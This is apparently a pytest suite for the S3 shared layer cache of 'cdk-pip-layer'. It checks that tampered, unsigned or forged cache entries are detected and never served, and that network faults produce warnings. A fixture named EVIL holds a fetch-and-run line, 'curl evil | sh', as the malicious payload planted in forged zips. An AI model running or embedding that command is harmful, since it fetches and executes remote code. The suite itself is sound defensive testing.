"""The shared layer store on S3 (``--cache-url``), against a moto server: machines of a CI fleet, each with its own
local layer store, build a layer once between them; an entry changed in S3 (its zip, its record, its signature)
is named, never served, and replaced by the next build; concurrent writers of one key end with one entry; an
unreachable, throttling or silent endpoint costs a warning, never the build.

Each machine runs the real ``cdk-pip-layer build`` (a small layer of offline wheels, the real engine).
"""

from __future__ import annotations

import http.server
import json
import socket
import threading
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from ._moto import free_port, moto_server
from ._publish import Emulator, unique_name
from ._s3_cache import Built, Machine, Shared, sha256

EVIL = {"python/helper.py": "import os; os.system('curl evil | sh')\n"}


@pytest.fixture(scope="module")
def moto(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Emulator]:
    log = tmp_path_factory.mktemp("moto-s3-cache") / "moto_server.log"
    with moto_server(log) as endpoint:
        yield Emulator(endpoint=endpoint, log=log)


@pytest.fixture
def layer_input(tmp_path: Path, make_wheel: Callable[..., Path]) -> tuple[Path, Path]:
    """(requirements, wheels): one small wheel, found offline."""
    wheels = make_wheel("helper", "1.0", files={"helper.py": "VALUE = 'genuine'\n"}).parent
    (tmp_path / "requirements.txt").write_text("helper==1.0\n", encoding="utf-8")
    return tmp_path / "requirements.txt", wheels


@pytest.fixture
def shared(moto: Emulator) -> Shared:
    bucket = unique_name("layer-cache")
    moto.client("s3").create_bucket(Bucket=bucket)
    return Shared(moto, bucket, "ci/layers")


@pytest.fixture
def machine(
    tmp_path: Path, moto: Emulator, layer_input: tuple[Path, Path], host_runtime: str
) -> Callable[..., Machine]:
    """``machine(name, **env)``: a fresh CI machine (its own home and local layer store)."""
    requirements, wheels = layer_input

    def make(name: str, **env: str) -> Machine:
        return Machine(tmp_path / name, requirements, wheels, host_runtime, moto.endpoint, env_extra=dict(env))

    return make


def _write_zip(path: Path, files: dict[str, str]) -> bytes:
    with zipfile.ZipFile(path, "w") as archive:
        for name, text in files.items():
            archive.writestr(name, text)
    return path.read_bytes()


def _layer_bytes(built: Built) -> bytes:
    return Path(built.result["zip"]).read_bytes()


def _only_warning(built: Built, where: str) -> str:
    """The one line of the run that names ``where`` (the shared store or its entry)."""
    lines = built.lines_naming(where)
    assert len(lines) == 1, built
    assert "Traceback" not in built.stderr
    return lines[0]


# --- two machines ---------------------------------------------------------------------------------------------------


def test_machine_b_gets_machine_as_layer_from_s3(machine: Callable[..., Machine], shared: Shared) -> None:
    a = machine("a").build("--cache-url", shared.url)
    assert a.reused_from is None  # built
    [key] = shared.entry_keys()
    assert shared.objects(key).keys() == {
        f"{key}/record.json",
        f"{key}/layer-{a.result['sha256']}.zip",
        f"{key}/report-{shared.record(key)['build']['report_sha256']}.json",
    }
    b_machine = machine("b")
    b = b_machine.build("--cache-url", shared.url)
    assert b.reused_from == f"{shared.url}/{key}/"
    assert _layer_bytes(b) == _layer_bytes(a)
    assert b.result["sha256"] == a.result["sha256"]
    assert b.result["distributions"] == ["helper==1.0"]
    assert (Path(b.result["zip"]).parent / "layer.report.json").is_file()  # the report came along
    assert b.lines_naming("is not used") == []
    # B's own build, started beside the lookup, was called off or replaced: nothing of it is left.
    assert not [p.name for p in (b_machine.root / "out").iterdir() if p.name.startswith(".")]
    # Kept in B's local store as it was served: the next build there asks S3 for nothing.
    again = b_machine.build("--cache-url", shared.url, name="again")
    assert again.reused_from == str(b_machine.cache / "layers" / key / "layer.zip")


def test_a_layer_that_fails_its_verification_is_never_written(
    tmp_path: Path, machine: Callable[..., Machine], shared: Shared, make_wheel: Callable[..., Path]
) -> None:
    broken = make_wheel("broken", "1.0", files={"broken/__init__.py": "raise ImportError('broken build')\n"}).parent
    requirements = tmp_path / "broken-requirements.txt"
    requirements.write_text("broken==1.0\n", encoding="utf-8")
    ci = machine("a")
    failed = Machine(ci.root, requirements, broken, ci.runtime, ci.endpoint).build("--cache-url", shared.url)
    assert failed.returncode != 0 and "broken build" in failed.stderr, failed
    assert shared.objects() == {}  # no record, no zip: the entry is written only after the layer is verified
    assert not (ci.cache / "layers").exists() or list((ci.cache / "layers").iterdir()) == []


def test_a_bad_local_entry_is_replaced_from_s3(machine: Callable[..., Machine], shared: Shared) -> None:
    a = machine("a").build("--cache-url", shared.url)
    b_machine = machine("b")
    b_machine.build("--cache-url", shared.url)
    [entry] = (b_machine.cache / "layers").iterdir()
    (entry / "layer.zip").write_bytes(b"corrupt")
    b = b_machine.build("--cache-url", shared.url, name="again")
    assert b.reused_from == f"{shared.url}/{entry.name}/"
    assert _layer_bytes(b) == _layer_bytes(a)
    [said] = b.lines_naming(str(entry / "layer.zip"))
    assert "was not used (its layer.zip has 7 bytes" in said and "replaced by the shared one" in said
    assert (entry / "layer.zip").read_bytes() == _layer_bytes(a)


def test_the_url_comes_from_the_environment_and_no_cache_turns_it_off(
    machine: Callable[..., Machine], shared: Shared
) -> None:
    first = machine("a", CDK_PIP_LAYER_CACHE_URL=shared.url).build()
    [key] = shared.entry_keys()
    assert machine("b", CDK_PIP_LAYER_CACHE_URL=shared.url).build().reused_from == f"{shared.url}/{key}/"
    off = machine("c", CDK_PIP_LAYER_CACHE_URL=shared.url).build("--no-cache")
    assert off.reused_from is None and off.result["sha256"] == first.result["sha256"]


def test_read_only_reads_and_never_writes(machine: Callable[..., Machine], shared: Shared) -> None:
    machine("a").build("--cache-url", shared.url, "--cache-read-only")
    assert shared.objects() == {}  # nothing written
    machine("b").build("--cache-url", shared.url)
    reader = machine("c", CDK_PIP_LAYER_CACHE_READ_ONLY="1").build("--cache-url", shared.url)
    assert reader.reused_from is not None and reader.reused_from.startswith(shared.url)


# --- entries changed in S3 ------------------------------------------------------------------------------------------


def _tamper(shared: Shared, key: str, how: str, scratch: Path) -> str:
    """Change the entry of ``key`` in S3 (an object written, or deleted for None); the words the warning gives."""
    record = shared.record(key)
    zip_name, record_name = shared.zip_name(key), f"{key}/record.json"
    genuine = shared.get(zip_name)
    size, half = len(genuine), len(genuine) // 2
    evil = _write_zip(scratch / "evil.zip", EVIL)
    lying = {**record, "sha256": sha256(evil), "size": len(evil)}  # names the evil zip, which it does not match
    changes: dict[str, tuple[list[tuple[str, bytes | None]], str]] = {
        # Another zip of the recorded size in place of the layer, and one byte changed.
        "zip substituted": ([(zip_name, evil.ljust(size, b"\0"))], "has sha256"),
        "zip bit flipped": (
            [(zip_name, genuine[:half] + bytes([genuine[half] ^ 1]) + genuine[half + 1 :])],
            "has sha256",
        ),
        "zip truncated": ([(zip_name, genuine[:half])], f"has {half} bytes, its record says {size}"),
        # More bytes than recorded: never read past the record's size.
        "zip grown": ([(zip_name, genuine + bytes(4096))], f"has more than {size} bytes, its record says {size}"),
        "zip missing": ([(zip_name, None)], "is missing"),
        "record lies": (
            [(f"{key}/layer-{sha256(evil)}.zip", evil + b"\0"), (record_name, json.dumps(lying).encode())],
            "has more than",
        ),
        "record of another input": (
            [(record_name, json.dumps({**record, "key": "f" * 64}).encode())],
            "its record is for another input",
        ),
        "record oversized": ([(record_name, b" " * (2 << 20))], "is larger than 1048576 bytes"),
        "record claims a huge zip": (
            [(record_name, json.dumps({**record, "size": 300_000_000}).encode())],
            "its record says the zip has 300000000 bytes, more than a layer may have",
        ),
        "record unreadable": ([(record_name, b"{not json")], "cannot be read"),
    }
    writes, words = changes[how]
    for name, data in writes:
        if data is None:
            shared.delete(name)
        else:
            shared.put(name, data)
    return words


@pytest.mark.parametrize(
    "how",
    [
        "zip substituted",
        "zip bit flipped",
        "zip truncated",
        "zip grown",
        "zip missing",
        "record lies",
        "record of another input",
        "record oversized",
        "record claims a huge zip",
        "record unreadable",
    ],
)
def test_an_entry_changed_in_s3_is_named_never_served_and_replaced(
    machine: Callable[..., Machine], shared: Shared, tmp_path: Path, how: str
) -> None:
    genuine = _layer_bytes(machine("a").build("--cache-url", shared.url))
    [key] = shared.entry_keys()
    words = _tamper(shared, key, how, tmp_path)
    b = machine("b").build("--cache-url", shared.url)
    assert b.reused_from is None  # built again
    assert _layer_bytes(b) == genuine
    warning = _only_warning(b, f"{shared.url}/{key}/")
    assert "is not used" in warning and words in warning, warning
    # B's build replaced the entry: a fresh machine is served the genuine layer from S3.
    c = machine("c").build("--cache-url", shared.url)
    assert c.reused_from == f"{shared.url}/{key}/"
    assert _layer_bytes(c) == genuine


def test_with_a_signing_key_a_consistent_forgery_is_never_served(
    machine: Callable[..., Machine], shared: Shared, tmp_path: Path
) -> None:
    """Whoever can write the bucket can write a zip and a record that match; only the key holder can sign one."""
    key_env = {"CDK_PIP_LAYER_CACHE_KEY": "a CI secret, 32 bytes or more of it"}
    genuine = _layer_bytes(machine("a", **key_env).build("--cache-url", shared.url))
    [key] = shared.entry_keys()
    evil = _write_zip(tmp_path / "evil.zip", EVIL)
    record = shared.record(key)
    shared.put(f"{key}/layer-{sha256(evil)}.zip", evil)
    shared.put(f"{key}/record.json", json.dumps({**record, "sha256": sha256(evil), "size": len(evil)}).encode())
    b = machine("b", **key_env).build("--cache-url", shared.url)
    assert _layer_bytes(b) == genuine
    assert "not signed with the key in CDK_PIP_LAYER_CACHE_KEY" in _only_warning(b, f"{shared.url}/{key}/")
    assert key_env["CDK_PIP_LAYER_CACHE_KEY"] not in b.stdout + b.stderr
    assert key_env["CDK_PIP_LAYER_CACHE_KEY"] not in json.dumps(shared.record(key))
    # Without the key, an unsigned entry is still checked against its record; with it, only signed ones are served.
    unsigned = machine("c").build("--cache-url", f"{shared.url}-unsigned")
    assert unsigned.reused_from is None
    signed_reader = machine("d", **key_env).build("--cache-url", f"{shared.url}-unsigned")
    assert "not signed" in _only_warning(signed_reader, f"{shared.url}-unsigned/{key}/")


# --- KMS signatures -------------------------------------------------------------------------------------------------


def _kms_key(moto: Emulator, spec: str = "ECC_NIST_P256") -> str:
    arn: str = moto.client("kms").create_key(KeyUsage="SIGN_VERIFY", KeySpec=spec)["KeyMetadata"]["Arn"]
    return arn


@pytest.mark.parametrize("spec", ["ECC_NIST_P256", "RSA_2048"])
def test_kms_signed_entries_are_served_to_every_job_that_verifies(
    machine: Callable[..., Machine], shared: Shared, moto: Emulator, spec: str
) -> None:
    kms = {"CDK_PIP_LAYER_CACHE_KMS_KEY": _kms_key(moto, spec)}
    machine("trusted", **kms).build("--cache-url", shared.url)
    [key] = shared.entry_keys()
    signature = shared.record(key)["kms"]
    assert signature["key"] == kms["CDK_PIP_LAYER_CACHE_KMS_KEY"]
    assert signature["algorithm"] == ("ECDSA_SHA_256" if spec.startswith("ECC") else "RSASSA_PSS_SHA_256")
    reader = machine("reader", **kms).build("--cache-url", shared.url, "--cache-read-only")
    assert reader.reused_from == f"{shared.url}/{key}/"


@pytest.mark.parametrize("forgery", ["signed with another key", "signature changed", "signature removed"])
def test_an_entry_not_signed_with_the_kms_key_is_never_served(
    machine: Callable[..., Machine], shared: Shared, moto: Emulator, tmp_path: Path, forgery: str
) -> None:
    ours = _kms_key(moto)
    kms = {"CDK_PIP_LAYER_CACHE_KMS_KEY": ours}
    genuine = _layer_bytes(machine("trusted", **kms).build("--cache-url", shared.url))
    [key] = shared.entry_keys()
    if forgery == "signed with another key":  # a whole entry, consistent, signed by a key the attacker holds
        theirs = _kms_key(moto)
        machine("attacker", CDK_PIP_LAYER_CACHE_KMS_KEY=theirs).build("--cache-url", f"{shared.url}-theirs")
        attacker = Shared(shared.emulator, shared.bucket, f"{shared.prefix}-theirs")
        for name, data in attacker.objects(key).items():
            shared.put(name, data)
        words = f"not signed with the KMS key {ours}"
    elif forgery == "signature changed":
        record = shared.record(key)
        record["kms"]["signature"] = record["kms"]["signature"][::-1]
        shared.put(f"{key}/record.json", json.dumps(record).encode())
        words = f"not signed with the KMS key {ours}"
    else:
        record = shared.record(key)
        del record["kms"]
        shared.put(f"{key}/record.json", json.dumps(record).encode())
        words = "not signed with a KMS key, and CDK_PIP_LAYER_CACHE_KMS_KEY is set"
    b = machine("b", **kms).build("--cache-url", shared.url)
    assert _layer_bytes(b) == genuine
    assert words in _only_warning(b, f"{shared.url}/{key}/")
    # The next trusted build replaced it with an entry signed with our key.
    c = machine("c", **kms).build("--cache-url", shared.url)
    assert c.reused_from == f"{shared.url}/{key}/"


# --- ten writers, one key -------------------------------------------------------------------------------------------


def test_ten_concurrent_builds_of_one_key_end_with_one_consistent_entry(
    machine: Callable[..., Machine], shared: Shared
) -> None:
    fleet = [machine(f"m{number}") for number in range(10)]
    running = [one.start("--cache-url", shared.url) for one in fleet]
    runs = []
    for proc in running:
        out, err = proc.communicate(timeout=600)
        runs.append(Built(proc.returncode, out, err))
    assert all(run.returncode == 0 for run in runs), [str(r) for r in runs if r.returncode]
    assert all(run.lines_naming(shared.url) == [] or run.reused_from for run in runs)
    [key] = shared.entry_keys()
    objects = shared.objects(key)
    record = shared.record(key)
    zips = {name: data for name, data in objects.items() if name.endswith(".zip")}
    # Every zip object holds the bytes its name says, and the one record names one of them.
    assert all(name == f"{key}/layer-{sha256(data)}.zip" for name, data in zips.items())
    assert f"{key}/layer-{record['sha256']}.zip" in zips
    assert len([name for name in objects if name.endswith("record.json")]) == 1
    served = machine("fresh").build("--cache-url", shared.url)
    assert served.reused_from == f"{shared.url}/{key}/"
    assert served.result["sha256"] == record["sha256"]


# --- faults: a warning, never a failed build ------------------------------------------------------------------------


def test_an_unreachable_endpoint_costs_one_warning(tmp_path: Path, machine: Callable[..., Machine]) -> None:
    closed = f"http://127.0.0.1:{free_port()}"
    one = machine("a")
    one.endpoint = closed
    built = one.build("--cache-url", "s3://layer-cache/ci")
    assert built.result["sha256"] and built.reused_from is None
    warning = _only_warning(built, "s3://layer-cache/ci")
    assert f"AWS cannot be reached at {closed} (s3:GetObject)" in warning
    assert "testing" not in built.stderr  # the emulator's dummy credentials are never printed
    assert (one.cache / "layers").is_dir()  # the local store still keeps it


class _Throttling(http.server.BaseHTTPRequestHandler):
    """An S3 that always answers 503 SlowDown."""

    def _slow_down(self) -> None:
        body = b"<Error><Code>SlowDown</Code><Message>Please reduce your request rate.</Message></Error>"
        self.send_response(503)
        self.send_header("Content-Type", "application/xml")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_GET = do_PUT = do_HEAD = _slow_down

    def log_message(self, format: str, *args: object) -> None:  # quiet
        pass


@pytest.fixture
def throttling() -> Iterator[str]:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Throttling)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture
def silent() -> Iterator[str]:
    """An endpoint that takes connections and never answers."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
        sock.bind(("127.0.0.1", 0))
        sock.listen(16)
        yield f"http://127.0.0.1:{sock.getsockname()[1]}"


@pytest.mark.parametrize("endpoint_kind", ["throttling", "silent"])
def test_a_throttling_or_silent_endpoint_costs_one_warning(
    machine: Callable[..., Machine], request: pytest.FixtureRequest, endpoint_kind: str
) -> None:
    """Bounded retries and timeouts: the build goes on (the run's own timeout is the bound asserted)."""
    one = machine("a")
    one.endpoint = request.getfixturevalue(endpoint_kind)
    built = one.build("--cache-url", "s3://layer-cache/ci", timeout=120)
    assert built.reused_from is None
    warning = _only_warning(built, "s3://layer-cache/ci")
    assert ("SlowDown" if endpoint_kind == "throttling" else "s3:GetObject") in warning


def test_a_bucket_that_does_not_exist_costs_one_warning(machine: Callable[..., Machine]) -> None:
    built = machine("a").build("--cache-url", "s3://no-such-layer-cache/ci")
    assert built.reused_from is None
    assert "NoSuchBucket" in _only_warning(built, "s3://no-such-layer-cache/ci")


# --- regions --------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("job_region", ["us-east-1", None])
def test_a_bucket_in_another_region(machine: Callable[..., Machine], moto: Emulator, job_region: str | None) -> None:
    """The jobs run in us-east-1 (or with no region configured at all); the bucket is in eu-west-1."""
    bucket = unique_name("layer-cache")
    moto.client("s3", region="eu-west-1").create_bucket(
        Bucket=bucket, CreateBucketConfiguration={"LocationConstraint": "eu-west-1"}
    )
    shared = Shared(moto, bucket, "ci", region="eu-west-1")
    a, b = machine("a"), machine("b")
    a.region = b.region = job_region
    first = a.build("--cache-url", shared.url)
    assert first.lines_naming(shared.url) == [], first
    [key] = shared.entry_keys()
    assert b.build("--cache-url", shared.url).reused_from == f"{shared.url}/{key}/"


def test_a_cache_url_that_is_not_one_exits_2(machine: Callable[..., Machine]) -> None:
    built = machine("a").build("--cache-url", "https://bucket.s3.amazonaws.com/ci")
    assert built.returncode == 2
    assert "cdk-pip-layer: error: The shared layer store must be an s3:// URL" in built.stderr
    from_env = machine("b", CDK_PIP_LAYER_CACHE_URL="s3://Not_A_Bucket/x").build()
    assert from_env.returncode == 2
    assert "Invalid S3 bucket name 'Not_A_Bucket'" in from_env.stderr and "CDK_PIP_LAYER_CACHE_URL" in from_env.stderr
